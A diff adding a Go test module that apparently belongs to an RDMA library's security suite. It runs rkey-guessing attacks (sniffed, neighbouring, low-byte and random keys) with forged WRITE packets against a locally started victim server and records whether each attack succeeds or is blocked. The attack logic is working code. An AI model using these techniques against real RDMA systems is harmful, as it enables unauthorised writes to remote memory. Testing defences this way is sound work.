@@ -1,0 +1,163 @@
+package attack
+
+import (
+	"errors"
+	"fmt"
+	"net"
+	"net/netip"
+	"time"
+
+	"github.com/ibex-rdma/ibex/ib"
+	_ "github.com/ibex-rdma/ibex/provider/loopback" // loop0: the attacker's own keys
+	"github.com/ibex-rdma/ibex/verbs"
+	"github.com/ibex-rdma/ibex/wire"
+)
+
+// guess is one rkey and address tried.
+type guess struct {
+	rkey uint32
+	va   uint64
+	why  string
+}
+
+// rkeyPD: the server's client QP is in one PD, the secret MR in another.
+// The attacker tries the secret MR's own rkey (sniffed from its legitimate
+// writer), then neighbours of it and of its grant, and random keys.
+func (s *Suite) rkeyPD() (Outcome, string) {
+	return s.rkeyGuess([]string{"--mode", "server", "--pd", "separate", "--a", AddrWriter.String(), "--b", AddrServer.String()}, nil, true)
+}
+
+// rkeyProcess: the client QP and the secret MR share a PD (ReDMArk's V9),
+// and the attacker knows keys of its own process: it tries those, their
+// neighbours, its grant's neighbours and low-byte variants (ibv_inc_rkey
+// changes only 8 bits) and random keys, never the sniffed one.
+func (s *Suite) rkeyProcess() (Outcome, string) {
+	ctx, err := verbs.Open("loop0")
+	if err != nil {
+		return failed("the attacker's own device", err)
+	}
+	defer ctx.Close()
+	pd, err := ctx.AllocPD()
+	if err != nil {
+		return failed("the attacker's own PD", err)
+	}
+	defer pd.Dealloc()
+	var own []uint32
+	for range 16 {
+		mr, err := pd.AllocMR(64, verbs.AccessLocalWrite|verbs.AccessRemoteWrite)
+		if err != nil {
+			return failed("the attacker's own MR", err)
+		}
+		own = append(own, mr.RKey())
+		defer mr.Dereg()
+	}
+	return s.rkeyGuess([]string{"--mode", "server", "--pd", "same", "--a", AddrWriter.String(), "--b", AddrServer.String()}, own, false)
+}
+
+// rkeyGuess runs a server victim with args and tries guesses against it,
+// each on a fresh client QP (a refused rkey moves the server's QP to ERR).
+func (s *Suite) rkeyGuess(args []string, own []uint32, useSniffed bool) (Outcome, string) {
+	mark := s.sn.Mark()
+	v, err := s.startVictim(nil, args...)
+	if err != nil {
+		return failed("victim", err)
+	}
+	defer v.stop()
+	grant, err := v.ask(command{Cmd: "status"})
+	if err != nil {
+		return failed("status", err)
+	}
+	var guesses []guess
+	secretVA := grant.VA + grant.Len // a neighbouring MR's address (V4)
+	w, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(AddrWriter, AddrServer)(x) && isWrite(x) })
+	switch {
+	case ok && w.Decoded:
+		secretVA = w.Packet.RETH.VA + slotLen // outside the writer's slot
+		if useSniffed {
+			guesses = append(guesses, guess{w.Packet.RETH.RKey, secretVA, "sniffed"})
+			for d := uint32(1); d <= 8; d++ {
+				guesses = append(guesses, guess{w.Packet.RETH.RKey + d, secretVA, "sniffed+"}, guess{w.Packet.RETH.RKey - d, secretVA, "sniffed-"})
+			}
+		}
+	case ok:
+		// Secured: the RETH cannot be read.
+	}
+	for _, k := range own {
+		guesses = append(guesses, guess{k, secretVA, "own"}, guess{k + 1, secretVA, "own+1"}, guess{k - 1, secretVA, "own-1"})
+	}
+	for d := uint32(1); d <= 16; d++ {
+		guesses = append(guesses, guess{grant.RKey + d, secretVA, "grant+"}, guess{grant.RKey - d, secretVA, "grant-"})
+	}
+	if !useSniffed {
+		for b := uint32(1); b < 256; b++ {
+			guesses = append(guesses, guess{grant.RKey&^0xff | (grant.RKey+b)&0xff, secretVA, "grant low byte"})
+		}
+	}
+	for range 32 {
+		guesses = append(guesses, guess{s.rng.Uint32(), secretVA, "random"})
+	}
+	acked, answered := 0, 0
+	hit := ""
+	for _, g := range guesses {
+		a, got, err := s.tryWrite(v, g)
+		if err != nil {
+			return failed("guess", err)
+		}
+		if got {
+			answered++
+		}
+		if a {
+			acked++
+			if hit == "" {
+				hit = fmt.Sprintf("%s rkey %#x", g.why, g.rkey)
+			}
+		}
+	}
+	st, err := v.ask(command{Cmd: "status"})
+	if err != nil {
+		return failed("status", err)
+	}
+	d := fmt.Sprintf("%d guesses, %d answered, %d accepted; secret MR changed: %v", len(guesses), answered, acked, st.Secret)
+	if hit != "" {
+		d += "; first: " + hit
+	}
+	if acked > 0 || st.Secret {
+		return Succeeded, d
+	}
+	return Blocked, d
+}
+
+// tryWrite connects a fresh client QP of the server to a QP the attacker
+// plays with its UDP socket and sends one WRITE Only with g. acked: the
+// server acknowledged it; answered: it answered at all.
+func (s *Suite) tryWrite(v *proc, g guess) (acked, answered bool, err error) {
+	qpn, psn := s.rng.Uint32()&0xffffff|1, s.rng.Uint32()&0xffffff
+	st, err := v.ask(command{Cmd: "connect", QPN: qpn, PSN: psn, Addr: AddrAttacker.String()})
+	if err != nil {
+		return false, false, err
+	}
+	dst := netip.AddrPortFrom(AddrServer, wire.UDPPort)
+	p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCWriteOnly, PKey: 0xffff, DestQP: st.QPN, AckReq: true, PSN: psn},
+		RETH: wire.RETH{VA: g.va, RKey: g.rkey, DMALen: 8}, Payload: []byte("ibexatk!")}
+	// The server's QP may take its first packet a moment after connect
+	// returns: resend, as a requester would after its timeout.
+	for range 5 {
+		if err := s.udp.Send(&p, dst); err != nil {
+			return false, false, err
+		}
+		deadline := time.Now().Add(40 * time.Millisecond)
+		for time.Now().Before(deadline) {
+			var r wire.Packet
+			_, err := s.udp.Recv(time.Until(deadline), &r)
+			var ne net.Error
+			if errors.As(err, &ne) && ne.Timeout() {
+				break
+			}
+			if err != nil || r.BTH.DestQP != qpn || r.BTH.Opcode != ib.RCAck {
+				continue
+			}
+			return r.AETH.Syndrome.IsACK() && r.BTH.PSN == psn, true, nil
+		}
+	}
+	return false, false, nil
+}
